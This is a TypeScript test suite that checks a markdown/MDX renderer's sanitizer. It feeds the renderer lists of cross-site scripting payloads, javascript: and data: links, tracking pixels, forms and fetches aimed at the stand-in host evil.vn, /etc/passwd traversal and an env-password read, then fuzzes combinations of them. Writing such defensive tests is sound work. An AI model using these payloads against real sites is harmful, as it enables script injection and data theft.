import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { inspect, render } from '../../../src/markdown/render.ts';
import { CONTEXT } from './reading.ts';
import { unsafeParts } from './safety.ts';

/** Nothing harmful comes out: either an error is reported and nothing is shown, or what is shown is on the lists. */
function outcome(body: string): { reported: boolean; unsafe: string[] } {
  const { tree, traps } = inspect(body);
  if (!tree) return { reported: traps.some(({ severity }) => severity === 'error'), unsafe: [] };
  return { reported: false, unsafe: unsafeParts(render(tree, CONTEXT).html) };
}

const REPORTED = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.vn/x.js></SCRIPT>',
  '<script\n>alert(1)</script\n>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)" />',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)>',
  '<body onload=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<object data="data:text/html,x"></object>',
  '<embed src="//evil.vn">',
  '<a href="javascript:alert(1)">x</a>',
  '<style>*{display:none}</style>',
  '<p style="position:fixed">x</p>',
  '<form action="//evil.vn"><input name=a></form>',
  '<meta http-equiv="refresh" content="0;url=//evil.vn">',
  '<base href="//evil.vn">',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<template><script>alert(1)</script></template>',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?>',
  '<!DOCTYPE html>',
  '<x-y onclick="alert(1)">x</x-y>',
  '<>alert(1)</>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](java&Tab;script:alert(1))',
  '[x](&#1;javascript:alert(1))',
  '[x](<javascript:alert(1)>)',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](blob:https://evil.vn/1)',
  '[x](file:///etc/passwd)',
  '[x][y]\n\n[y]: javascript:alert(1)',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml,<svg/onload=alert(1)>)',
  '![x](https://evil.vn/pixel.png)',
  '![x](//evil.vn/pixel.png)',
  '![x][y]\n\n[y]: https://evil.vn/pixel.png',
  '![x](./../../../../etc/passwd)',
  '[x](//evil.vn)',
  '<javascript:alert(1)>',
  '{alert(1)}',
  '{process.env.PASSWORD}',
  'import fs from "node:fs"',
  'export const a = fetch("//evil.vn")',
  '<Note {...alert(1)}>\n\nx\n\n</Note>',
  '<Note title={alert(1)}>\n\nx\n\n</Note>',
  '<Note onclick="alert(1)">\n\nx\n\n</Note>',
  '<Note style="x">\n\nx\n\n</Note>',
  '<Note class="x">\n\nx\n\n</Note>',
  '<Note kind=\'info" onclick="alert(1)\'>\n\nx\n\n</Note>',
  '<Note title="`">[x](javascript:alert(1))`</Note>',
  '<Note title="`"><script>alert(1)</script>`</Note>',
  '<Note title="`">{alert(1)}`</Note>',
  '<Note title="`"><Download path="javascript:alert(1)" title="x" />`</Note>',
  '<Download path="javascript:alert(1)" title="x" />',
  '<Download path="&#106;avascript:alert(1)" title="x" />',
  '<Download path="//evil.vn/x" title="x" />',
  '<Download path="/&#47;evil.vn/x" title="x" />',
  '<Download path="/\\evil.vn/x" title="x" />',
  '<Download path="/../../etc/passwd" title="x" />',
  '<Video path="https://evil.vn/x.mp4" title="x">\n\nx\n\n</Video>',
  '<Video path="/a.mp4" captions="data:text/vtt,x" title="x">\n\nx\n\n</Video>',
  '<Script src="x" />',
  '<constructor>x</constructor>',
  '<Note.constructor>x</Note.constructor>',
];

const HARMLESS = [
  'xmpp:a@b.vn',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '`<script>alert(1)</script>`',
  '```html" onclick="alert(1)\nx\n```',
  '```\n<script>alert(1)</script>\n```',
  '\\<img src=x onerror=alert(1)\\>',
  '[x](/a"onmouseover="alert(1))',
  '[x](/a "t\\" onclick=\\"alert(1)")',
  '[x](/\\evil.vn)',
  '[a`]b](/x/ "`")',
  '## " onclick="alert(1)',
  '## &lt;script&gt;',
  '![" onerror="alert(1)](./a.png)',
  'x[^"onclick="1]\n\n[^"onclick="1]: y',
  'x[^constructor] [^__proto__]\n\n[^constructor]: y\n\n[^__proto__]: z',
  '[constructor]: /a/\n\n[constructor] [__proto__]',
  '<Note title="&lt;script&gt;alert(1)&lt;/script&gt;">\n\nx\n\n</Note>',
  '<Details title=\'" onclick="alert(1)\'>\n\nx\n\n</Details>',
  '<ProcedureCard id="&quot; onclick=&quot;alert(1)" />',
  '<Download path="/tep/a.pdf" title="&quot;>&lt;script>" />',
  '| " onclick="a |\n|---|\n| x |',
];

describe('hostile texts', () => {
  it.each(REPORTED)('%j is refused', (body) => {
    expect(outcome(body)).toEqual({ reported: true, unsafe: [] });
  });

  it.each(HARMLESS)('%j comes out harmless', (body) => {
    expect(outcome(body)).toEqual({ reported: false, unsafe: [] });
  });

  const pieces = [...REPORTED, ...HARMLESS].flatMap((body) => [body, ...body.split(/(?=[<>"'`{}()[\]\n])/)]);
  const nasty = fc.oneof(
    { weight: 6, arbitrary: fc.constantFrom(...new Set(pieces)) },
    {
      weight: 3,
      arbitrary: fc.constantFrom(...'<>{}[]()!`"\'\\/|-#*_~:&;= \n\t'.split(''), '\n\n', '\n- ', '\n> '),
    },
    { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 5 }) },
  );

  /** Mostly right texts around components, so that most of them are shown. */
  const mild = fc.constantFrom(
    ...[
      '<Note>',
      '</Note>',
      '<Note title="`">',
      '<Note title="a`b">',
      '<Note>x</Note>',
      '<Note>\n\nx\n\n</Note>',
    ],
    ...[
      '<Details title="x">',
      '</Details>',
      '<ProcedureCard id="a" />',
      '<Download path="/a.pdf" title="`" />',
    ],
    ...['[x](/a/)', '[x](javascript:a)', '![i](./a.png)', '[z][y]', '\n\n[y]: /a/', '[^1]', '\n\n[^1]: x'],
    ...['`', '```\n', '**', '~~', '\\', '\\<', '\\{', '&lt;', '< ', 'a', 'b c', '\n', '\n\n', '    ', '\t'],
    ...['- ', '> ', '1. ', '## A', '- [ ] x', '\n---\n', '| a | b |\n|---|---|\n| c | d |', 'https://a.vn'],
  );

  it.each([
    ['whatever is typed', nasty],
    ['whatever is typed around components', mild],
  ])(
    '%s is refused or harmless, and never throws',
    (_case, part) => {
      fc.assert(
        fc.property(fc.array(part, { maxLength: 12 }), (parts) => {
          const body = parts.join('');
          const { tree, traps } = inspect(body);
          for (const { offset } of traps) expect(offset >= 0 && offset <= body.length).toBe(true);
          if (tree) expect(unsafeParts(render(tree, CONTEXT).html)).toEqual([]);
          else expect(traps.some(({ severity }) => severity === 'error')).toBe(true);
        }),
        { numRuns: 500 },
      );
    },
    60_000,
  );
});
